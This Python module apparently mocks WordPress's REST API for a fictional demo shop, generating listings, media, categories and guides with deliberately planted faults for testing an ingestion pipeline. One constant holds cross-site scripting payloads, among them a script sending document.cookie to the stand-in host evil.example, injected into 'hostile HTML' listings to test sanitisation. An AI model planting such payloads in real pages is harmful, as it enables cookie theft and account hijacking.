"""The shop in the form of WordPress's REST API: posts, media, terms and guides, with planted faults."""

import html
from collections.abc import Sequence
from datetime import datetime
from typing import Any

from demo_shop import vocabulary as v
from demo_shop.facts import OPENED, facts, stream
from demo_shop.faults import FIRST_LISTING_ID, Fault, guide_id, listing_id
from demo_shop.shop import Listing, Shop

HOST = "demo-shop.example"
HOME = f"http://{HOST}"
FIRST_MEDIA_ID = 2_000_001
SHELVES: Sequence[str] = ("Front window", "Workshop", "Garden table", "Attic finds", "Market stall", "Under ten pounds")
"""Categories: shelves of the shop, independent of the kind of item."""
TAGS: Sequence[str] = tuple(
    sorted(
        {
            *v.MATERIALS,
            *v.COLOURS,
            *v.PATTERNS[1:],
            "vintage",
            "charming",
            "honest",
            "quirky",
            "well-loved",
            "handsome",
            "rare",
            "simple",
        }
    )
)
FIRST_CATEGORY_ID, FIRST_TAG_ID = 11, 101
HOSTILE = (
    "<script>document.location='http://evil.example/?'+document.cookie</script>"
    '<img src=x onerror="alert(\'pwned\')"><iframe src="http://evil.example/"></iframe>'
    '<a href="javascript:alert(1)" onclick="steal()">more pictures</a><p style="background:url(javascript:alert(2))">'
    "As good as it looks.</p>"
)
Row = dict[str, Any]


def slug(number: int) -> str:
    """The last part of a listing's address."""
    return f"find-{listing_id(number)}"


def page_url(number: int) -> str:
    """Address of a listing's HTML page."""
    return f"{HOME}/shop/{slug(number)}/"


def media_name(shop: Shop, number: int) -> str:
    """File name of a listing's image."""
    return f"{slug(number)}.{shop.listing(number).image.extension}"


def media_url(shop: Shop, number: int) -> str:
    """Address that the API gives for a listing's image (the old address if the image has moved)."""
    created = shop.facts(number).created
    folder = "old-uploads" if kind_at(shop, number) == "image moved" else "wp-content/uploads"
    return f"{HOME}/{folder}/{created:%Y/%m}/{media_name(shop, number)}"


def kind_at(shop: Shop, number: int) -> str:
    """Kind of the fault planted in a listing, or an empty text."""
    fault = shop.listing_faults.get(number)
    return fault.kind if fault else ""


def when(moment: datetime) -> str:
    """A time in WordPress's form: GMT without a zone."""
    return f"{moment:%Y-%m-%dT%H:%M:%S}"


def post(shop: Shop, number: int, embed: bool) -> Row:
    """A listing as ``/wp-json/wp/v2/posts`` gives it."""
    listing = shop.listing(number)
    words, kind = listing.words, kind_at(shop, number)
    created, modified = dates(shop, number)
    categories = _categories(shop, number)
    tags = [FIRST_TAG_ID + TAGS.index(tag) for tag in words.tags]
    pictured = kind != "no image"
    row: Row = {
        "id": FIRST_LISTING_ID + number,
        "date": when(created),
        "date_gmt": when(created),
        "modified": when(modified),
        "modified_gmt": when(modified),
        "slug": slug(number),
        "status": "publish",
        "type": "post",
        "link": page_url(number),
        "title": {"rendered": "" if kind == "empty title" else _entities(words.title)},
        "content": {"rendered": words.body + (HOSTILE if kind == "hostile HTML" else ""), "protected": False},
        "excerpt": {"rendered": f"<p>{_entities(words.description)}</p>\n", "protected": False},
        "featured_media": FIRST_MEDIA_ID + number if pictured else 0,
        "categories": categories,
        "tags": tags,
        "meta": _meta(shop, number, listing, kind),
        "yoast_head_json": {"title": words.seo_title, "description": words.seo_description},
        "_links": {"self": [{"href": f"{HOME}/wp-json/wp/v2/posts/{FIRST_LISTING_ID + number}"}]},
    }
    if embed:
        row["_embedded"] = {"wp:term": [[category(place) for place in categories], [tag(place) for place in tags]]}
        if pictured:
            row["_embedded"]["wp:featuredmedia"] = [media(shop, number)]
    return row


def dates(shop: Shop, number: int) -> tuple[datetime, datetime]:
    """Dates of publication and last change of a listing; a duplicate does not share its original's."""
    own = facts(shop.seed, number)
    return own.created, own.modified


def _categories(shop: Shop, number: int) -> list[int]:
    rng = stream(shop.seed, "shelf", number)
    return sorted(FIRST_CATEGORY_ID + place for place in rng.sample(range(len(SHELVES)), rng.choice((1, 1, 2))))


def _meta(shop: Shop, number: int, listing: Listing, kind: str) -> Row:
    """The labels; some optional ones are missing."""
    truth, scene = listing.facts, listing.image.scene
    rng = stream(shop.seed, "labels", number)
    objects: Any = [
        {"label": thing.label, "box": [round(value, 5) for value in thing.box], "attributes": list(thing.attributes)}
        for thing in scene.objects
    ]
    relations = [
        {"subject": relation.subject, "predicate": relation.predicate, "object": relation.object}
        for relation in scene.relations
    ]
    if kind == "box outside the image":
        objects[0]["box"] = [-0.2, 0.1, 1.4, 0.9]
    elif kind == "relation to no object":
        relations.append({"subject": 0, "predicate": "left of", "object": 17})
    elif kind == "objects is a string":
        objects = "see picture"
    labels = {"item": truth.item, "material": truth.material, "bin": truth.bin, "product_class": truth.product_class}
    known = {name: label for name, label in labels.items() if rng.random() >= UNLABELLED}
    return {
        **known,
        "price": truth.price,
        "objects": objects,
        "relations": relations,
        "locale": truth.locale,
        "preferences": list(truth.wishes),
        "licence": truth.licence,
    }


UNLABELLED = 0.015
"""P(a label is missing), for each label of each listing."""


def media(shop: Shop, number: int) -> Row:
    """An image as ``/wp-json/wp/v2/media`` gives it."""
    listing = shop.listing(number)
    created, modified = dates(shop, number)
    return {
        "id": FIRST_MEDIA_ID + number,
        "date_gmt": when(created),
        "modified_gmt": when(modified),
        "slug": f"{slug(number)}-picture",
        "type": "attachment",
        "link": f"{page_url(number)}picture/",
        "title": {"rendered": slug(number)},
        "alt_text": listing.words.alt_text,
        "caption": {"rendered": f"<p>{_entities(listing.words.caption)}</p>\n"},
        "media_type": "image",
        "mime_type": listing.image.mime_type,
        "media_details": {
            "width": listing.image.width,
            "height": listing.image.height,
            "file": media_name(shop, number),
        },
        "post": FIRST_LISTING_ID + number,
        "source_url": media_url(shop, number),
    }


def category(place: int) -> Row:
    """A shelf by its id."""
    name = SHELVES[place - FIRST_CATEGORY_ID]
    return {"id": place, "name": name, "slug": name.lower().replace(" ", "-"), "taxonomy": "category"}


def tag(place: int) -> Row:
    """A tag by its id."""
    name = TAGS[place - FIRST_TAG_ID]
    return {"id": place, "name": name, "slug": name.replace(" ", "-"), "taxonomy": "post_tag"}


def guide_post(shop: Shop, number: int) -> Row:
    """A guide as ``/wp-json/wp/v2/guides`` gives it; its id is the guide id of relevance judgements."""
    row = shop.guide_row(shop.guides[number])
    text = "" if any(fault.id == row["id"] for fault in guide_faults_of(shop)) else f"<p>{_entities(row['text'])}</p>\n"
    return {
        "id": int(guide_id(number)),
        "date_gmt": when(OPENED),
        "modified_gmt": when(OPENED),
        "slug": f"guide-{guide_id(number)}",
        "status": "publish",
        "type": "guide",
        "link": f"{HOME}/guides/guide-{guide_id(number)}/",
        "title": {"rendered": _entities(row["title"])},
        "content": {"rendered": text, "protected": False},
    }


def guide_faults_of(shop: Shop) -> list[Fault]:
    """The faults planted in guides."""
    return [fault for fault in shop.faults if fault.table == "guides"]


def _entities(text: str) -> str:
    """Escape text as WordPress's wptexturize does."""
    return html.escape(text, quote=False).replace("\N{EN DASH}", "&#8211;").replace("'", "&#8217;")
